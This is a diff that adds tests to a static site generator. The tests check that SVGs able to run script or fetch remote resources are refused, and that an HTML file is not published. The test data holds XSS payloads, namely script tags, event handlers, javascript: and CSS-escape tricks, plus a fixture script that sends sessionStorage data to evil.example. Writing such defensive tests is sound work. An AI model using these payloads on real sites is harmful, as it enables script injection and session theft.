@@ -147,3 +147,46 @@ def test_theme_static_files_linking_out_of_the_theme_are_refused(make_site):
     (static / "roster.txt").unlink()
     assert _run(root, "build").exit_code == 0
     assert (root / "_site/assets/alias.css").read_text() == "body { color: black }\n"
+
+
+SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
+
+
+@pytest.mark.parametrize("body, message", [
+    ('<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>', "1:84: the SVG holds a script"),
+    ('<g ONMOUSEOVER="alert(1)"/>', "1:84: the SVG has the event handler ONMOUSEOVER= on <g>"),
+    ('<a xlink:href=" javascript:alert(1)"><text>x</text></a>', "1:84: <a> refers to ' javascript:alert(1)'"),
+    ('<image href="data:image/svg+xml;base64,PHN2Zz4="/>', "1:84: <image> refers to 'data:image/svg+xml"),
+    ('<image src="//evil.example/p.png"/>', "1:84: <image> refers to '//evil.example/p.png'"),
+    ('<rect filter="url( \'https://evil.example/f.svg#f\' )"/>', "1:84: the filter= of <rect> refers to "),
+    ('<rect style="fill: u\\72l(https://evil.example/p)"/>', "1:84: the style= of <rect> uses a CSS escape"),
+    ('<style>rect { background: image-set("https://evil.example/p.png" 1x) }</style>', "1:84: a <style> uses image-set"),
+    ('<animate attributeName="xlink:href" values="javascript:alert(1)"/>', "1:84: <animate> animates xlink:href="),
+    ('<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="#"/>', "1:84: the SVG holds the HTML element <iframe>"),
+])
+def test_an_svg_that_could_run_or_reach_out_is_refused_at_its_element(tmp_path, body, message):
+    from circlepress.inert import inert_problems
+    path = tmp_path / "x.svg"
+    path.write_text(SVG_OPEN + body + "</svg>")
+    found = [p.format() for p in inert_problems(path, "content/x.svg")]
+    assert any(line.startswith("content/x.svg:" + message) for line in found), found
+
+
+def test_inert_files_are_published_and_an_active_one_stops_the_build(make_site):
+    root = _project(make_site)
+    files = {"logo.svg": SVG_OPEN.encode() + b'<defs><linearGradient id="g"/></defs><circle r="4" fill="url(#g)"/>'
+             b'<image href="data:image/png;base64,iVBORw0KGgo="/><a href="#g"><text>x</text></a></svg>',
+             "photo.PNG": b"\x89PNG\r\n\x1a\n...", "handout.pdf": b"%PDF-1.7\n", "roles.csv": b"name,role\n",
+             "sheet.xlsx": b"PK\x03\x04...", "pic.webp": b"RIFF\x00\x00\x00\x00WEBPVP8 ",
+             "pic.avif": b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf"}
+    for name, data in files.items():
+        (root / "content" / name).write_bytes(data)
+    assert _run(root, "build").exit_code == 0
+    for name, data in files.items():
+        assert (root / "_site" / name).read_bytes() == data
+    before = {p: p.read_bytes() for p in (root / "_site").rglob("*") if p.is_file()}
+    (root / "content/steal.html").write_text("<script>fetch('https://evil.example/?' + sessionStorage.key(0))</script>")
+    result = _run(root, "build")
+    assert result.exit_code == 1 and "content/steal.html:1:1: a '.html' file is not published from content/" \
+        in result.output, result.output
+    assert {p: p.read_bytes() for p in (root / "_site").rglob("*") if p.is_file()} == before
